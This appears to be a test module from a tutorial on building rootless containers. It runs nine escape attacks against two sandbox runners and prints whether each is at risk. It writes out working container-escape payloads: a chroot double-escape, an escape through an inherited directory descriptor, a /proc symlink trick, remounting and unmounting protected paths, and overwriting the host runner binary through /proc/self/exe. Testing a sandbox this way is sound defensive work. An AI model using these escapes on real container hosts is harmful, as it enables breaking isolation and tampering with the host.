# Tangled from docs/11-attack.md, docs/10-run.md by litdeck: edit there, not here.
"""Attacks on two containers, and what has become of them: python -m rootless.attacks."""

import contextlib
import os
import pty
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from functools import partial

from rootless.fork import end_in_exit, start_child, wait_for
from rootless.run import run
from rootless.sandbox import Sandbox
from rootless.supervise import run_sandbox

CODE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
STAY = """
import ctypes, os, time
ctypes.CDLL(None).prctl(1, 0)  # PR_SET_PDEATHSIG: no signal, please
print("ready", flush=True)
time.sleep(5)
"""
Runner = Callable[[list[str]], int]
PYTHON = shutil.which("python3", path="/usr/bin:/bin:/usr/local/bin") or "python3"
PRELUDE = """
import ctypes, fcntl, os, socket, sys
libc = ctypes.CDLL(None)
"""


def command(payload: str, *arguments: str) -> list[str]:
    """Return the command line of a payload."""
    return [PYTHON, "-ISc", PRELUDE + payload, *arguments]


def finish(pid: int, reading: int) -> str:
    """Read all that a container says, and wait for its caller."""
    with open(reading, errors="replace") as pipe:
        output = pipe.read()
    wait_for(pid)
    return output


def gets_it(run_it: Runner, payload: str, *arguments: str, stdin: int = 0) -> bool:
    """Run a payload in a container, and return whether it says that it got what it wanted."""
    reading, writing = os.pipe()

    def caller() -> int:
        for source, target in ((stdin, 0), (writing, 1), (os.open("/dev/null", os.O_WRONLY), 2)):
            os.dup2(source, target)
        return run_it(command(payload, *arguments))

    pid = start_child(caller)
    os.close(writing)
    return "got it" in finish(pid, reading)


RUNNERS: dict[str, Runner] = {
    "chapter 6": run,
    "rootless run": lambda argv: run_sandbox(Sandbox(argv)),
}


WALK = """
os.mkdir("/tmp/hole")
os.chroot("/tmp/hole")
for _ in range(100):
    os.chdir("..")
os.chroot(".")
print("got it" * os.path.exists(sys.argv[1]))
"""


def walk_out(run_it: Runner) -> bool:
    """Leave by a second chroot, as in chapter 6."""
    with tempfile.NamedTemporaryFile() as secret:
        return gets_it(run_it, WALK, secret.name)


DIRECTORY = """
os.fchdir(9)
os.chroot(".")
print("got it" * os.path.exists(sys.argv[1]))
"""


def open_directory(run_it: Runner) -> bool:
    """Leave by a directory that is open: the standard input."""
    with tempfile.NamedTemporaryFile() as secret:
        shell = ["/bin/sh", "-c", 'exec "$@" 9<&0 0<&1', "sh"]
        through_shell = lambda argv: run_it([*shell, *argv])  # noqa: E731
        return gets_it(through_shell, DIRECTORY, secret.name, stdin=os.open("/", os.O_RDONLY))


def _says(run_it: Callable[[], int]) -> bool:
    reading, writing = os.pipe()
    pid = start_child(lambda: run_it() if os.dup2(writing, 1) and os.dup2(writing, 2) else 1)
    os.close(writing)
    return "got it" in finish(pid, reading)


ECHO = ["/bin/sh", "-c", "read line </proc/version; echo $line"]
IMAGE_RUNNERS: dict[Runner, Callable[[str], bool]] = {
    RUNNERS["chapter 6"]: lambda image: _says(lambda: run(ECHO, root=image)),
    RUNNERS["rootless run"]: lambda image: _says(lambda: run_sandbox(Sandbox(ECHO, rootfs=image))),
}


def fake_proc(run_it: Runner) -> bool:
    """Let the image choose what is in /proc, by a link in the place where it is mounted."""
    with tempfile.TemporaryDirectory() as folder:
        image, victim = f"{folder}/image", f"{folder}/victim"
        for name in (victim, f"{image}/bin", f"{image}/dev", f"{image}{victim}/self/fd"):
            os.makedirs(name)
        os.symlink(victim, f"{image}/proc")
        with open(f"{image}{victim}/version", "w") as file:
            file.write("got it")
        shutil.copy(shutil.which("busybox") or "", f"{image}/bin/sh")
        return IMAGE_RUNNERS[run_it](image)


REMOUNT = """
libc.mount(b"none", b"/usr", b"none", ctypes.c_ulong(32 | 4096), None)
print("got it" * (not os.statvfs("/usr").f_flag & os.ST_RDONLY))
"""
UNCOVER = """
libc.umount2(b"/proc/interrupts", 0)
print("got it" * bool(open("/proc/interrupts").read()))
"""
TERMINAL = """
os.tcgetpgrp(0)
print("got it")
"""


def terminal(run_it: Runner) -> bool:
    """Have the terminal from which the container was started, to type into it."""
    pid, master = pty.fork()
    if pid == 0:
        end_in_exit(lambda: run_it(command(TERMINAL)))
    output = b""
    with contextlib.suppress(OSError):  # EIO: nobody has the other end any more
        while data := os.read(master, 1024):
            output += data
    wait_for(pid)
    return b"got it" in output


NETWORK = """
socket.create_connection(("127.0.0.1", int(sys.argv[1])), 2)
print("got it")
"""


def network(run_it: Runner) -> bool:
    """Talk to a server on the host's 127.0.0.1."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        return gets_it(run_it, NETWORK, str(server.getsockname()[1]))


def outlives(run_it: Callable[[], int]) -> bool:
    """Start a container in a process, kill that process, and see whether anything is left."""
    reading, writing = os.pipe()
    caller = start_child(lambda: run_it() if os.dup2(writing, 1) else 1)
    os.close(writing)
    os.read(reading, 6)
    os.kill(caller, signal.SIGKILL)
    wait_for(caller)
    return not select.select([reading], [], [], 2)[0]


def outlive(run_it: Runner) -> bool:
    """Go on when the caller was killed."""
    return outlives(lambda: run_it([PYTHON, "-c", STAY]))


OVERWRITE = """
libc.prctl(1, 0)  # PR_SET_PDEATHSIG: stay when the caller has gone
exe = os.open("/proc/self/exe", os.O_RDONLY)
os.set_inheritable(exe, True)
print("ready", flush=True)
write = f"for i in 1 2 3 4 5 6 7 8 9; do echo got it >/proc/self/fd/{exe}; sleep 0.1; done"
os.execv("/bin/sh", ["sh", "-c", write])
"""
RUN = {
    "chapter 6": "from rootless.run import run; run({argv!r})",
    "rootless run": "from rootless.supervise import *; run_sandbox(Sandbox({argv!r}))",
}


def _start_and_kill(words: list[str], env: dict[str, str]) -> None:
    pipe, nothing = subprocess.PIPE, subprocess.DEVNULL
    caller = subprocess.Popen(words, env=env, stdout=pipe, stderr=nothing)
    if caller.stdout:
        caller.stdout.readline()
    caller.kill()
    caller.wait()


def overwrite(run_it: Runner) -> bool:
    """Write to the host's program that runs the container, when it has ended."""
    name = next(name for name, runner in RUNNERS.items() if runner is run_it)
    argv = ["/proc/self/exe", "-ISc", PRELUDE + OVERWRITE]
    with tempfile.TemporaryDirectory() as folder:
        copy = shutil.copy(os.path.realpath(PYTHON), f"{folder}/python3")
        env = {"PYTHONPATH": CODE, "PYTHONHOME": "/usr"}
        _start_and_kill([copy, "-c", RUN[name].format(argv=argv)], env)
        time.sleep(0.4)
        with open(copy, "rb") as file:
            return file.read(6) == b"got it"


ATTACKS: dict[str, Callable[[Runner], bool]] = {
    "walk out of the root": walk_out,
    "leave by an open directory": open_directory,
    "choose what is in /proc": fake_proc,
    "write where it is read-only": partial(gets_it, payload=REMOUNT),
    "read what is covered": partial(gets_it, payload=UNCOVER),
    "have your terminal": terminal,
    "talk to your 127.0.0.1": network,
    "outlive its caller": outlive,
    "overwrite the runner": overwrite,
}


def succeeds(attack: Callable[[Runner], bool], run_it: Runner) -> bool:
    """Try an attack on a container, in a child; RuntimeError if it breaks before it is tried."""
    status = wait_for(start_child(lambda: 10 + attack(run_it)))
    if status not in (10, 11):
        raise RuntimeError(f"the attack ended with status {status}")
    return status == 11


def main() -> int:
    """Print the table; return 1 if `rootless run` is at risk."""
    print(f"{'':28}", *(f"{name:10}" for name in RUNNERS))
    risks = 0
    for words, attack in ATTACKS.items():
        found = [succeeds(attack, run_it) for run_it in RUNNERS.values()]
        told = [f"{'RISK' if risk else 'SAFE':10}" for risk in found]
        print(f"{words:28} {' '.join(told)}".rstrip(), flush=True)
        risks += found[-1]
    return 1 if risks else 0


if __name__ == "__main__":
    sys.exit(main())
